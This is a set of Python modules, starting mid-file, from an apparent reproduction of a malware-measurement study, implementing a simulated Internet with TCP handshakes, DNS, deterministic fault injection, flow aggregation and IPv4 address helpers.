                    "netsim.backbone_full", limit=self.backbone_limit,
                    when=pkt.timestamp,
                )

    def _stamp(self) -> float:
        """Advance the clock by the link latency and return the new time."""
        return self.clock.advance(self.LATENCY)

    # -- ICMP / raw UDP -------------------------------------------------------

    def send_datagram(self, pkt: Packet, trace: Capture | None = None) -> list[Packet]:
        """Deliver one UDP/ICMP packet; returns replies (also recorded)."""
        pkt.timestamp = self._stamp()
        self._record(pkt, trace)
        if self.faults is not None and self.faults.packet_lost(
                pkt.dst, pkt.timestamp):
            return []  # lost in transit: recorded at the source, never delivered
        host = self.hosts.get(pkt.dst)
        if host is None or not host.is_online(pkt.timestamp):
            return []
        replies: list[Packet] = []
        if pkt.protocol == Protocol.UDP:
            listener = host.listener(Protocol.UDP, pkt.dport)
            if listener is None or not listener.accepts(pkt.timestamp):
                return []
            service = listener.service
            payloads = service.on_datagram(host, pkt, pkt.timestamp)
            for payload in payloads:
                reply = udp_packet(
                    src=pkt.dst, dst=pkt.src, sport=pkt.dport, dport=pkt.sport,
                    payload=payload, timestamp=self._stamp(),
                )
                self._record(reply, trace)
                replies.append(reply)
        elif pkt.protocol == Protocol.ICMP and pkt.icmp_type == 8:
            reply = icmp_packet(
                src=pkt.dst, dst=pkt.src, icmp_type=0, payload=pkt.payload,
                timestamp=self._stamp(),
            )
            self._record(reply, trace)
            replies.append(reply)
        return replies

    # -- DNS --------------------------------------------------------------------

    def dns_lookup(
        self, client: int, name: str, trace: Capture | None = None
    ) -> DnsResponse:
        """Resolve ``name`` via the backbone resolver, with wire traffic."""
        txid = random_transaction_id(self.rng)
        query = DnsQuery(txid, name)
        sport = ephemeral_port(self.rng)
        query_pkt = udp_packet(
            src=client, dst=self.resolver_address, sport=sport, dport=53,
            payload=query.encode(), timestamp=self._stamp(),
        )
        self._record(query_pkt, trace)
        response = self.resolver.answer(query, now=self.clock.now)
        reply_pkt = udp_packet(
            src=self.resolver_address, dst=client, sport=53, dport=sport,
            payload=response.encode(), timestamp=self._stamp(),
        )
        self._record(reply_pkt, trace)
        return response

    #: address of the backbone resolver (a stable, reserved-looking value)
    resolver_address = 0x08080808  # 8.8.8.8

    # -- TCP ----------------------------------------------------------------------

    def tcp_connect(
        self,
        client_ip: int,
        server_ip: int,
        server_port: int,
        trace: Capture | None = None,
        client_port: int | None = None,
    ) -> ClientSession | None:
        """Attempt a TCP connection; ``None`` on timeout/refusal.

        On refusal a RST is recorded; on an offline host the SYN simply
        goes unanswered (like a dropped probe on the real Internet).
        """
        sport = client_port if client_port is not None else ephemeral_port(self.rng)
        now = self._stamp()
        client = TcpConnection(client_ip, server_ip, sport, server_port, self.rng, time=now)
        syn = client.open()
        self._record(syn, trace)
        if self.faults is not None and self.faults.connection_fails(
                server_ip, now):
            return None  # SYN lost in a fault window: silent timeout
        host = self.hosts.get(server_ip)
        if host is None or not host.is_online(now):
            return None  # silent drop: no host there
        listener = host.listener(Protocol.TCP, server_port)
        if listener is None:
            rst = tcp_packet(
                src=server_ip, dst=client_ip, sport=server_port, dport=sport,
                flags=TcpFlags.RST | TcpFlags.ACK,
                ack=(syn.seq + 1) & 0xFFFFFFFF, timestamp=self._stamp(),
            )
            self._record(rst, trace)
            return None
        if not listener.accepts(now):
            return None  # elusive server: SYN dropped
        server_conn = TcpConnection(
            server_ip, client_ip, server_port, sport, self.rng, time=now
        )
        server_conn.listen()
        for synack in server_conn.receive(syn):
            synack.timestamp = self._stamp()
            self._record(synack, trace)
            for ack in client.receive(synack):
                ack.timestamp = self._stamp()
                self._record(ack, trace)
                server_conn.receive(ack)
        if not (client.established and server_conn.established):
            return None
        session_trace = trace if trace is not None else Capture()
        server_session = ServerSession(
            internet=self, conn=server_conn, peer=client_ip, peer_port=sport,
            trace=session_trace,
        )
        client_session = ClientSession(self, client, server_session, session_trace)
        server_session.state["client"] = client_session
        service = listener.service
        if listener.banner:
            server_session.send(listener.banner)
        service.on_connect(server_session)
        server_session.state["service"] = service
        return client_session

    # -- internal TCP plumbing ----------------------------------------------

    def _client_send(
        self, client: ClientSession, server: ServerSession, data: bytes
    ) -> None:
        seg = client.conn.send(data)
        seg.timestamp = self._stamp()
        self._record(seg, client.trace)
        for ack in server.conn.receive(seg):
            ack.timestamp = self._stamp()
            self._record(ack, client.trace)
            client.conn.receive(ack)
        payload = server.conn.read()
        if payload and not server.closed:
            service = server.state.get("service")
            if service is not None:
                service.on_data(server, payload)

    def _server_send(self, server: ServerSession, data: bytes) -> None:
        seg = server.conn.send(data)
        seg.timestamp = self._stamp()
        self._record(seg, server.trace)
        client: ClientSession = server.state["client"]
        for ack in client.conn.receive(seg):
            ack.timestamp = self._stamp()
            self._record(ack, server.trace)
            server.conn.receive(ack)
        client._deliver(client.conn.read())

    def _client_close(self, client: ClientSession, server: ServerSession) -> None:
        if not client.conn.established:
            return
        fin = client.conn.close()
        fin.timestamp = self._stamp()
        self._record(fin, client.trace)
        for reply in server.conn.receive(fin):
            reply.timestamp = self._stamp()
            self._record(reply, client.trace)
            client.conn.receive(reply)
        server.closed = True

    def _server_close(self, server: ServerSession) -> None:
        if not server.conn.established:
            return
        fin = server.conn.close()
        fin.timestamp = self._stamp()
        self._record(fin, server.trace)
        client: ClientSession = server.state["client"]
        for reply in client.conn.receive(fin):
            reply.timestamp = self._stamp()
            self._record(reply, server.trace)
            server.conn.receive(reply)
        client.closed = True

    # -- probing helpers ------------------------------------------------------

    def port_is_open(self, server_ip: int, port: int, now: float | None = None) -> bool:
        """Whether a SYN to ``server_ip:port`` would elicit a SYN-ACK."""
        when = self.clock.now if now is None else now
        host = self.hosts.get(server_ip)
        if host is None or not host.is_online(when):
            return False
        listener = host.listener(Protocol.TCP, port)
        return listener is not None and listener.accepts(when)
