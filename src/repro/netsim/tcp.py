"""A small TCP connection state machine for the virtual Internet.

The simulation does not need retransmission, congestion control or
windowing — C2 sessions and handshaker interactions in the paper are short
request/response exchanges on reliable links.  What it *does* need, and what
this module provides, is a faithful three-way handshake, in-order data
exchange with correct sequence/ack arithmetic, and RST/FIN teardown,
because MalNet's handshaker trick (section 2.4) hinges on completing the
handshake so that the malware sends its exploit payload.
"""

from __future__ import annotations

import enum
import random
from dataclasses import dataclass, field

from .packet import Packet, TcpFlags, tcp_packet


class TcpState(enum.Enum):
    CLOSED = "closed"
    SYN_SENT = "syn-sent"
    SYN_RECEIVED = "syn-received"
    ESTABLISHED = "established"
    FIN_WAIT = "fin-wait"
    CLOSE_WAIT = "close-wait"
    RESET = "reset"


class TcpError(RuntimeError):
    """Raised on protocol violations (e.g. data before handshake)."""


@dataclass(slots=True)
class TcpConnection:
    """One endpoint of a TCP connection.

    Use :meth:`open` on the client, feed every incoming segment to
    :meth:`receive`, and send data with :meth:`send`.  Each method returns
    the packets this endpoint emits in response, so the caller (the virtual
    Internet) stays in charge of delivery and timing.
    """

    local: int
    remote: int
    local_port: int
    remote_port: int
    rng: random.Random
    state: TcpState = TcpState.CLOSED
    snd_next: int = 0
    rcv_next: int = 0
    inbox: bytearray = field(default_factory=bytearray)
    time: float = 0.0

    # -- lifecycle ---------------------------------------------------------

    def open(self) -> Packet:
        """Start an active open; returns the SYN to deliver."""
        if self.state != TcpState.CLOSED:
            raise TcpError(f"open() in state {self.state}")
        self.snd_next = self.rng.randrange(1, 2**32 - 1)
        self.state = TcpState.SYN_SENT
        syn = self._segment(TcpFlags.SYN)
        self.snd_next = (self.snd_next + 1) & 0xFFFFFFFF
        return syn

    def listen(self) -> None:
        """Passive open: wait for a SYN in CLOSED state."""
        if self.state != TcpState.CLOSED:
            raise TcpError(f"listen() in state {self.state}")

    def send(self, data: bytes) -> Packet:
        """Send application data on an established connection."""
        if self.state != TcpState.ESTABLISHED:
            raise TcpError(f"send() in state {self.state}")
        seg = self._segment(TcpFlags.PSH | TcpFlags.ACK, data)
        self.snd_next = (self.snd_next + len(data)) & 0xFFFFFFFF
        return seg

    def close(self) -> Packet:
        """Begin an orderly close (FIN)."""
        if self.state not in (TcpState.ESTABLISHED, TcpState.CLOSE_WAIT):
            raise TcpError(f"close() in state {self.state}")
        fin = self._segment(TcpFlags.FIN | TcpFlags.ACK)
        self.snd_next = (self.snd_next + 1) & 0xFFFFFFFF
        self.state = TcpState.FIN_WAIT
        return fin

    def abort(self) -> Packet:
        """Hard reset the connection."""
        rst = self._segment(TcpFlags.RST)
        self.state = TcpState.RESET
        return rst

    # -- segment processing --------------------------------------------------

    def receive(self, seg: Packet) -> list[Packet]:
        """Process one incoming segment; returns any segments to emit."""
        if seg.flags & TcpFlags.RST:
            self.state = TcpState.RESET
            return []
        if self.state == TcpState.CLOSED:
            return self._on_listen(seg)
        if self.state == TcpState.SYN_SENT:
            return self._on_syn_sent(seg)
        if self.state == TcpState.SYN_RECEIVED:
            return self._on_syn_received(seg)
        if self.state in (TcpState.ESTABLISHED, TcpState.FIN_WAIT, TcpState.CLOSE_WAIT):
            return self._on_established(seg)
        return []

    def _on_listen(self, seg: Packet) -> list[Packet]:
        if not seg.is_syn:
            return [self._rst_for(seg)]
        self.rcv_next = (seg.seq + 1) & 0xFFFFFFFF
        self.snd_next = self.rng.randrange(1, 2**32 - 1)
        synack = self._segment(TcpFlags.SYN | TcpFlags.ACK)
        self.snd_next = (self.snd_next + 1) & 0xFFFFFFFF
        self.state = TcpState.SYN_RECEIVED
        return [synack]

    def _on_syn_sent(self, seg: Packet) -> list[Packet]:
        if not seg.is_synack:
            return []
        self.rcv_next = (seg.seq + 1) & 0xFFFFFFFF
        self.state = TcpState.ESTABLISHED
        return [self._segment(TcpFlags.ACK)]

    def _on_syn_received(self, seg: Packet) -> list[Packet]:
        if seg.flags & TcpFlags.ACK:
            self.state = TcpState.ESTABLISHED
            # the final ACK of the handshake may already carry data
            if seg.payload:
                return self._accept_data(seg)
        return []

    def _on_established(self, seg: Packet) -> list[Packet]:
        out: list[Packet] = []
        if seg.payload:
            out.extend(self._accept_data(seg))
        if seg.flags & TcpFlags.FIN:
            self.rcv_next = (self.rcv_next + 1) & 0xFFFFFFFF
            out.append(self._segment(TcpFlags.ACK))
            if self.state == TcpState.FIN_WAIT:
                self.state = TcpState.CLOSED
            else:
                self.state = TcpState.CLOSE_WAIT
        return out

    def _accept_data(self, seg: Packet) -> list[Packet]:
        if seg.seq != self.rcv_next:
            # out-of-order: the simulated network is in-order, so this is a
            # protocol violation by the peer; drop and re-ack.
            return [self._segment(TcpFlags.ACK)]
        self.inbox.extend(seg.payload)
        self.rcv_next = (self.rcv_next + len(seg.payload)) & 0xFFFFFFFF
        return [self._segment(TcpFlags.ACK)]

    # -- helpers ------------------------------------------------------------

    def read(self) -> bytes:
        """Drain and return buffered application data."""
        data = bytes(self.inbox)
        self.inbox.clear()
        return data

    @property
    def established(self) -> bool:
        return self.state == TcpState.ESTABLISHED

    def _segment(self, flags: TcpFlags, payload: bytes = b"") -> Packet:
        return tcp_packet(
            src=self.local,
            dst=self.remote,
            sport=self.local_port,
            dport=self.remote_port,
            flags=flags,
            payload=payload,
            seq=self.snd_next,
            ack=self.rcv_next,
            timestamp=self.time,
        )

    def _rst_for(self, seg: Packet) -> Packet:
        return tcp_packet(
            src=self.local,
            dst=self.remote,
            sport=self.local_port,
            dport=self.remote_port,
            flags=TcpFlags.RST,
            seq=0,
            ack=(seg.seq + 1) & 0xFFFFFFFF,
            timestamp=self.time,
        )


def handshake_pair(
    client_ip: int,
    server_ip: int,
    client_port: int,
    server_port: int,
    rng: random.Random,
    time: float = 0.0,
) -> tuple["TcpConnection", "TcpConnection", list[Packet]]:
    """Run a complete three-way handshake between two fresh endpoints.

    Returns ``(client, server, packets)`` where ``packets`` is the SYN,
    SYN-ACK, ACK exchange in order.  Both endpoints end up ESTABLISHED.
    """
    client = TcpConnection(client_ip, server_ip, client_port, server_port, rng, time=time)
    server = TcpConnection(server_ip, client_ip, server_port, client_port, rng, time=time)
    server.listen()
    trace: list[Packet] = []
    syn = client.open()
    trace.append(syn)
    for synack in server.receive(syn):
        trace.append(synack)
        for ack in client.receive(synack):
            trace.append(ack)
            server.receive(ack)
    if not (client.established and server.established):
        raise TcpError("handshake failed")
    return client, server, trace
