"""Deterministic fault injection: the hostile-Internet layer.

The real MalNet ran for a year against elusive C2 servers (§3.2), feeds
with latency and outages, and sandboxes that crash.  Our closed world is
perfectly reliable, so the pipeline's resilience paths — retries, feed
backfill, per-sample quarantine, shard re-dispatch — would otherwise
never be exercised.  This module makes the world flaky *on purpose*,
without giving up the reproduction's hard invariant that the merged
parallel output is byte-identical to the serial run.

Every fault decision is a pure function of ``(world seed, entity,
time-slot)`` via :func:`repro.determinism.stable_unit` — never of an RNG
stream or of call order.  Two processes that ask "does this SYN to host H
at time T get dropped?" always agree, which is what lets a fault plan ride
under the sharded runner unchanged.

A :class:`FaultPlan` is declarative configuration (picklable, carried on
``PipelineConfig``); a :class:`FaultInjector` binds a plan to a world seed
and answers the per-event questions.  Hook points:

* :meth:`VirtualInternet.tcp_connect <repro.netsim.internet.VirtualInternet.tcp_connect>`
  — per-host SYN-drop windows and background connection timeouts;
* :meth:`VirtualInternet.send_datagram` — per-host packet-loss windows;
* :class:`~repro.netsim.dns.Resolver` — transient SERVFAIL slots;
* the feeds — whole-day outages (with deterministic retry recovery) and
  latency-spike days that defer entries to a later pull;
* :meth:`CncHunterSandbox.analyze_offline
  <repro.sandbox.sandbox.CncHunterSandbox.analyze_offline>` — transient
  activation crashes, retried by the pipeline;
* :func:`repro.core.parallel._run_shard` — injected worker crashes/hangs
  for chaos-testing the runner's re-dispatch path.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..determinism import stable_unit

__all__ = [
    "FAULT_PLANS",
    "FaultInjector",
    "FaultPlan",
    "FeedUnavailable",
    "InjectedFault",
    "SandboxCrash",
    "WorkerCrash",
]


class InjectedFault(RuntimeError):
    """Base class for failures raised by the fault layer."""


class FeedUnavailable(InjectedFault):
    """A feed pull attempt hit an outage window."""


class SandboxCrash(InjectedFault):
    """The sandbox failed to come up for an activation attempt."""


class WorkerCrash(InjectedFault):
    """A shard worker process was told to die mid-study (chaos hook)."""


@dataclass(frozen=True)
class FaultPlan:
    """Declarative fault configuration; all rates are probabilities.

    The plan itself carries no randomness — a :class:`FaultInjector`
    derives every decision from ``(seed, entity, time-slot)``.  Frozen and
    picklable so it can ride on ``PipelineConfig`` into worker processes.
    """

    name: str = "custom"
    #: seconds per time slot for windowed decisions (default: one hour)
    slot_seconds: float = 3600.0
    # -- network ---------------------------------------------------------
    #: chance a (host, slot) is inside a SYN-drop window
    syn_drop_window_rate: float = 0.0
    #: per-connection drop probability within an active window
    syn_drop_rate: float = 0.0
    #: background connection-timeout probability (any host, any time)
    connect_timeout_rate: float = 0.0
    #: chance a (host, slot) is inside a packet-loss window
    packet_loss_window_rate: float = 0.0
    #: per-datagram loss probability within an active window
    packet_loss_rate: float = 0.0
    #: per-(name, slot) chance the resolver answers SERVFAIL
    dns_servfail_rate: float = 0.0
    # -- feeds -----------------------------------------------------------
    #: chance a (feed, day) starts in an outage
    feed_outage_rate: float = 0.0
    #: chance each retry attempt still finds the feed down
    feed_retry_still_down: float = 0.5
    #: chance a (feed, day) is a latency-spike day
    feed_spike_rate: float = 0.0
    #: max extra publication delay on a spike day (seconds)
    feed_spike_max_delay: float = 0.0
    # -- sandbox ---------------------------------------------------------
    #: per-(sha256, attempt) chance an activation attempt crashes
    sandbox_crash_rate: float = 0.0
    # -- chaos hooks for the sharded runner ------------------------------
    #: shard indexes whose workers crash (first ``crash_attempts`` tries)
    crash_shards: tuple[int, ...] = ()
    crash_attempts: int = 1
    #: shard indexes whose workers hang (first ``hang_attempts`` tries)
    hang_shards: tuple[int, ...] = ()
    hang_attempts: int = 1
    hang_seconds: float = 30.0

    @property
    def enabled(self) -> bool:
        return bool(
            self.syn_drop_window_rate or self.connect_timeout_rate
            or self.packet_loss_window_rate or self.dns_servfail_rate
            or self.feed_outage_rate or self.feed_spike_rate
            or self.sandbox_crash_rate or self.crash_shards
            or self.hang_shards
        )


#: Presets selectable with ``--faults`` on the CLI.  "mild" keeps every
#: degradation path warm without drowning the study; "heavy" is the chaos
#: setting the CI smoke job runs.
FAULT_PLANS: dict[str, FaultPlan] = {
    "mild": FaultPlan(
        name="mild",
        syn_drop_window_rate=0.05, syn_drop_rate=0.5,
        connect_timeout_rate=0.01,
        packet_loss_window_rate=0.05, packet_loss_rate=0.2,
        dns_servfail_rate=0.02,
        feed_outage_rate=0.05, feed_retry_still_down=0.4,
        feed_spike_rate=0.05, feed_spike_max_delay=12 * 3600.0,
        sandbox_crash_rate=0.02,
    ),
    "heavy": FaultPlan(
        name="heavy",
        syn_drop_window_rate=0.15, syn_drop_rate=0.7,
        connect_timeout_rate=0.03,
        packet_loss_window_rate=0.15, packet_loss_rate=0.4,
        dns_servfail_rate=0.08,
        feed_outage_rate=0.15, feed_retry_still_down=0.6,
        feed_spike_rate=0.15, feed_spike_max_delay=24 * 3600.0,
        sandbox_crash_rate=0.08,
    ),
}

_DAY = 86400.0


class FaultInjector:
    """Binds a :class:`FaultPlan` to a world seed and answers per-event
    fault questions deterministically.

    Optionally counts fired injections into a labelled telemetry counter
    (``fault_injections{kind=...}``) — the counter only ever observes
    decisions that *fired*, so a disabled plan costs nothing.
    """

    def __init__(self, plan: FaultPlan, seed: int, counter=None):
        self.plan = plan
        self.seed = seed
        self._counter = counter
        # memo for per-(entity, slot) window decisions: the hot loops ask
        # the same question for every packet in a slot (is this host in a
        # loss window? is this feed's day an outage?), the answers are
        # pure functions of (seed, entity, slot), and plan rates are
        # frozen — so one sha256 draw per window block replaces one per
        # event, with a byte-identical decision stream
        self._window_memo: dict[tuple, bool] = {}

    def _unit(self, kind: str, *parts) -> float:
        return stable_unit("fault", kind, self.seed, *parts)

    def _slot(self, now: float) -> int:
        return int(now // self.plan.slot_seconds)

    def _window(self, kind: str, entity, slot: int, rate: float) -> bool:
        """Memoized windowed decision: ``unit(kind, entity, slot) < rate``."""
        key = (kind, entity, slot)
        memo = self._window_memo
        hit = memo.get(key)
        if hit is None:
            hit = memo[key] = self._unit(kind, entity, slot) < rate
        return hit

    def _fired(self, kind: str) -> bool:
        if self._counter is not None:
            self._counter.labels(kind=kind).inc()
        return True

    # -- network ---------------------------------------------------------

    def connection_fails(self, host: int, now: float) -> bool:
        """SYN to ``host`` at ``now`` is lost (window drop or timeout)."""
        plan = self.plan
        if plan.syn_drop_window_rate and (
            self._window("syn-window", host, self._slot(now),
                         plan.syn_drop_window_rate)
            and self._unit("syn-drop", host, int(now * 1000))
            < plan.syn_drop_rate
        ):
            return self._fired("syn_drop")
        if plan.connect_timeout_rate and (
            self._unit("timeout", host, int(now * 1000))
            < plan.connect_timeout_rate
        ):
            return self._fired("connect_timeout")
        return False

    def packet_lost(self, host: int, when: float) -> bool:
        """A datagram to ``host`` stamped at ``when`` is dropped."""
        plan = self.plan
        if not plan.packet_loss_window_rate:
            return False
        if not self._window("loss-window", host, self._slot(when),
                            plan.packet_loss_window_rate):
            return False
        if self._unit("loss", host, int(when * 1000)) < plan.packet_loss_rate:
            return self._fired("packet_loss")
        return False

    def dns_servfail(self, name: str, now: float) -> bool:
        """The backbone resolver SERVFAILs ``name`` in this slot."""
        plan = self.plan
        if plan.dns_servfail_rate and self._window(
            "servfail", name.lower(), self._slot(now),
            plan.dns_servfail_rate,
        ):
            return self._fired("dns_servfail")
        return False

    # -- feeds -----------------------------------------------------------

    def feed_unavailable(self, feed: str, when: float, attempt: int) -> bool:
        """Pull attempt ``attempt`` of ``feed`` around ``when`` fails.

        Attempt 0 fails iff the day is an outage day; each further attempt
        independently stays down with ``feed_retry_still_down`` — so a
        retry policy with a few attempts usually recovers the pull, and
        the rare day where every attempt fails exercises the backfill
        path (the next successful pull widens its window).
        """
        plan = self.plan
        if not plan.feed_outage_rate:
            return False
        day = int(when // _DAY)
        if not self._window("feed-outage", feed, day,
                            plan.feed_outage_rate):
            return False
        if attempt > 0 and self._unit("feed-retry", feed, day, attempt) \
                >= plan.feed_retry_still_down:
            return False
        return self._fired("feed_outage")

    def feed_delay(self, feed: str, sha256: str, published: float) -> float:
        """Extra publication-visibility delay for one feed entry."""
        plan = self.plan
        if not plan.feed_spike_rate:
            return 0.0
        day = int(published // _DAY)
        if not self._window("feed-spike-day", feed, day,
                            plan.feed_spike_rate):
            return 0.0
        return plan.feed_spike_max_delay * self._unit("feed-spike", feed,
                                                      sha256)

    # -- sandbox ---------------------------------------------------------

    def sandbox_crash(self, sha256: str, attempt: int) -> bool:
        """Activation attempt ``attempt`` of ``sha256`` crashes."""
        plan = self.plan
        if plan.sandbox_crash_rate and (
            self._unit("sandbox-crash", sha256, attempt)
            < plan.sandbox_crash_rate
        ):
            return self._fired("sandbox_crash")
        return False

    # -- chaos hooks for the sharded runner ------------------------------

    def worker_crashes(self, shard_index: int, attempt: int) -> bool:
        return (shard_index in self.plan.crash_shards
                and attempt < self.plan.crash_attempts)

    def worker_hangs(self, shard_index: int, attempt: int) -> bool:
        return (shard_index in self.plan.hang_shards
                and attempt < self.plan.hang_attempts)
