"""Flow aggregation over captures.

MalNet's traffic analysis (C2 detection, DDoS rate heuristics, port
popularity for the handshaker) works on per-flow summaries rather than raw
packets.  A *flow* here is the classic 5-tuple with direction normalized so
that both directions of a TCP/UDP conversation fall into one record.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from .capture import Capture
from .packet import Packet, Protocol, TcpFlags


@dataclass(frozen=True)
class FlowKey:
    """Direction-normalized 5-tuple; ``initiator`` kept separately."""

    low_host: int
    low_port: int
    high_host: int
    high_port: int
    protocol: Protocol

    @classmethod
    def for_packet(cls, pkt: Packet) -> "FlowKey":
        a = (pkt.src, pkt.sport)
        b = (pkt.dst, pkt.dport)
        if a <= b:
            return cls(a[0], a[1], b[0], b[1], pkt.protocol)
        return cls(b[0], b[1], a[0], a[1], pkt.protocol)


@dataclass
class Flow:
    """Aggregated statistics for one conversation."""

    key: FlowKey
    initiator: int
    responder: int
    initiator_port: int
    responder_port: int
    first_time: float
    last_time: float
    packets_fwd: int = 0
    packets_rev: int = 0
    bytes_fwd: int = 0
    bytes_rev: int = 0
    payload_fwd: bytearray = field(default_factory=bytearray)
    payload_rev: bytearray = field(default_factory=bytearray)
    syn_seen: bool = False
    synack_seen: bool = False
    rst_seen: bool = False
    fin_seen: bool = False

    @property
    def protocol(self) -> Protocol:
        return self.key.protocol

    @property
    def bidirectional(self) -> bool:
        return self.packets_fwd > 0 and self.packets_rev > 0

    @property
    def handshake_completed(self) -> bool:
        """True if a full TCP three-way handshake was observed."""
        return self.syn_seen and self.synack_seen

    @property
    def duration(self) -> float:
        return self.last_time - self.first_time

    @property
    def total_packets(self) -> int:
        return self.packets_fwd + self.packets_rev

    @property
    def total_bytes(self) -> int:
        return self.bytes_fwd + self.bytes_rev

    def packet_rate(self) -> float:
        """Forward-direction packets per second (0 if instantaneous)."""
        if self.duration <= 0:
            return 0.0
        return self.packets_fwd / self.duration

    def observe(self, pkt: Packet) -> None:
        self.observe_fields(pkt.src, pkt.sport, pkt.timestamp, pkt.size,
                            pkt.payload, pkt.protocol, pkt.flags)

    def observe_fields(self, src: int, sport: int, timestamp: float,
                       size: int, payload: bytes, protocol: Protocol,
                       flags: TcpFlags) -> None:
        """Fold one packet's fields in without needing a ``Packet`` object."""
        forward = src == self.initiator and sport == self.initiator_port
        self.last_time = max(self.last_time, timestamp)
        self.first_time = min(self.first_time, timestamp)
        if forward:
            self.packets_fwd += 1
            self.bytes_fwd += size
            if len(self.payload_fwd) < 1 << 20:
                self.payload_fwd.extend(payload)
        else:
            self.packets_rev += 1
            self.bytes_rev += size
            if len(self.payload_rev) < 1 << 20:
                self.payload_rev.extend(payload)
        if protocol == Protocol.TCP:
            syn = flags & TcpFlags.SYN
            ack = flags & TcpFlags.ACK
            if syn and not ack:
                self.syn_seen = True
            if syn and ack:
                self.synack_seen = True
            if flags & TcpFlags.RST:
                self.rst_seen = True
            if flags & TcpFlags.FIN:
                self.fin_seen = True


class FlowTable:
    """Builds flows from packets (streaming or from a capture)."""

    def __init__(self) -> None:
        self._flows: dict[FlowKey, Flow] = {}

    def observe(self, pkt: Packet) -> Flow:
        key = FlowKey.for_packet(pkt)
        flow = self._flows.get(key)
        if flow is None:
            flow = Flow(
                key=key,
                initiator=pkt.src,
                responder=pkt.dst,
                initiator_port=pkt.sport,
                responder_port=pkt.dport,
                first_time=pkt.timestamp,
                last_time=pkt.timestamp,
            )
            self._flows[key] = flow
        flow.observe(pkt)
        return flow

    def observe_row(self, row: tuple) -> Flow:
        """Fold one :meth:`Capture.iter_rows` tuple in, object-free."""
        (src, dst, protocol, sport, dport, payload, flags,
         _seq, _ack, _ttl, _icmp_type, _icmp_code, timestamp) = row
        if (src, sport) <= (dst, dport):
            key = FlowKey(src, sport, dst, dport, protocol)
        else:
            key = FlowKey(dst, dport, src, sport, protocol)
        flow = self._flows.get(key)
        if flow is None:
            flow = Flow(
                key=key, initiator=src, responder=dst, initiator_port=sport,
                responder_port=dport, first_time=timestamp,
                last_time=timestamp,
            )
            self._flows[key] = flow
        if protocol == Protocol.TCP:
            size = 40 + len(payload)   # mirrors Packet.size
        else:
            size = 28 + len(payload)
        flow.observe_fields(src, sport, timestamp, size, payload, protocol,
                            flags)
        return flow

    @classmethod
    def from_capture(cls, capture: Capture) -> "FlowTable":
        table = cls()
        rows = getattr(capture, "iter_rows", None)
        if rows is not None:
            # field-level read: a columnar capture aggregates into flows
            # without ever building Packet objects
            observe_row = table.observe_row
            for row in rows():
                observe_row(row)
        else:
            for pkt in capture:
                table.observe(pkt)
        return table

    def flows(self) -> list[Flow]:
        return list(self._flows.values())

    def __len__(self) -> int:
        return len(self._flows)

    # -- study-specific queries --------------------------------------------

    def flows_from(self, initiator: int) -> list[Flow]:
        return [f for f in self._flows.values() if f.initiator == initiator]

    def contacted_hosts(self, initiator: int) -> set[int]:
        return {f.responder for f in self.flows_from(initiator)}

    def port_fanout(self, initiator: int) -> dict[int, set[int]]:
        """Destination port -> set of distinct destination IPs contacted.

        This is the statistic MalNet's handshaker uses to pick scanning
        ports: the paper redirects traffic for ports contacted on more than
        20 distinct IPs (section 2.4).
        """
        fanout: dict[int, set[int]] = {}
        for flow in self.flows_from(initiator):
            fanout.setdefault(flow.responder_port, set()).add(flow.responder)
        return fanout
