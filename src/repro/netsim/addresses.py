"""IPv4 address and port utilities for the virtual Internet.

Addresses are represented as plain ``int`` (host byte order) internally for
speed, with helpers to convert to and from dotted-quad strings.  Subnets are
``(network_int, prefix_len)`` pairs wrapped in :class:`Subnet`.

The module is self-contained (no stdlib ``ipaddress``) because the rest of
the packet layer works on raw integers and we want allocation-free hot
paths when generating flood traffic.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Iterator

MAX_IPV4 = 0xFFFFFFFF

#: Well-known port numbers used throughout the simulation.
PORT_DNS = 53
PORT_HTTP = 80
PORT_HTTPS = 443
PORT_TELNET = 23
PORT_TELNET_ALT = 2323

# Private / reserved ranges that must never be allocated to public hosts.
_RESERVED_BLOCKS = (
    (0x00000000, 8),    # 0.0.0.0/8
    (0x0A000000, 8),    # 10.0.0.0/8
    (0x64400000, 10),   # 100.64.0.0/10 CGNAT
    (0x7F000000, 8),    # 127.0.0.0/8
    (0xA9FE0000, 16),   # 169.254.0.0/16
    (0xAC100000, 12),   # 172.16.0.0/12
    (0xC0A80000, 16),   # 192.168.0.0/16
    (0xE0000000, 4),    # 224.0.0.0/4 multicast
    (0xF0000000, 4),    # 240.0.0.0/4 reserved
)


class AddressError(ValueError):
    """Raised for malformed addresses or exhausted allocations."""


def ip_to_int(text: str) -> int:
    """Parse a dotted-quad IPv4 string into an integer.

    >>> ip_to_int("1.2.3.4")
    16909060
    """
    parts = text.split(".")
    if len(parts) != 4:
        raise AddressError(f"not a dotted quad: {text!r}")
    value = 0
    for part in parts:
        if not part.isdigit():
            raise AddressError(f"non-numeric octet in {text!r}")
        octet = int(part)
        if octet > 255:
            raise AddressError(f"octet out of range in {text!r}")
        value = (value << 8) | octet
    return value


def is_ip_literal(text: str) -> bool:
    """Strict dotted-quad test: exactly four decimal octets in 0-255.

    Endpoint strings extracted from malware configs are hostile input:
    ``"1234"`` and ``"1.2.3"`` pass the naive
    ``text.replace(".", "").isdigit()`` heuristic and then blow up in
    :func:`ip_to_int`, while ``"999.1.1.1"`` is no address at all.  Only
    a string this function accepts may be handed to :func:`ip_to_int`;
    everything else must be treated as a DNS name.

    >>> is_ip_literal("1.2.3.4")
    True
    >>> is_ip_literal("1.2.3"), is_ip_literal("1234"), is_ip_literal("999.1.1.1")
    (False, False, False)
    """
    parts = text.split(".")
    if len(parts) != 4:
        return False
    for part in parts:
        if not part.isdigit() or len(part) > 3 or int(part) > 255:
            return False
    return True


def int_to_ip(value: int) -> str:
    """Render an integer as a dotted-quad IPv4 string.

    >>> int_to_ip(16909060)
    '1.2.3.4'
    """
    if not 0 <= value <= MAX_IPV4:
        raise AddressError(f"ipv4 int out of range: {value}")
    return ".".join(
        str((value >> shift) & 0xFF) for shift in (24, 16, 8, 0)
    )


def prefix_mask(prefix: int) -> int:
    """Netmask integer for a prefix length (``/24`` -> 0xFFFFFF00)."""
    if not 0 <= prefix <= 32:
        raise AddressError(f"bad prefix length: {prefix}")
    if prefix == 0:
        return 0
    return (MAX_IPV4 << (32 - prefix)) & MAX_IPV4


#: (network, mask) pairs for the reserved blocks — masks computed once,
#: is_reserved runs per candidate address on the scan hot path
_RESERVED_MASKED = tuple(
    (network, prefix_mask(prefix)) for network, prefix in _RESERVED_BLOCKS
)


def _reserved_octet_entry(octet: int):
    """Reserved-block dispatch for one first octet: True if the whole /8
